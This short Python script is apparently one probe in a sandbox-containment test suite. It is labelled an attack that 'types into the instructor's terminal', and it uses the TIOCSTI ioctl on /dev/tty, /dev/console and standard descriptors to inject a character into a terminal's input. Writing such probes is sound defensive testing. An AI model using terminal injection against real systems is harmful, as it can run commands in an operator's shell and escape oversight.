# /// attack
# class = "A92"
# title = "types into the instructor's terminal"
# hope = "a character that is pushed back is a command"
# contained = "L2"
# why = "a plain process may do what its user may"
# ///
import fcntl, os
tried()
for name in ("/dev/tty", "/dev/console", *(f"/proc/self/fd/{number}" for number in range(3))):
    try:
        terminal = os.open(name, os.O_RDWR)
        fcntl.ioctl(terminal, 0x5412, b" ")
        got("typed into a terminal")
    except OSError:
        pass
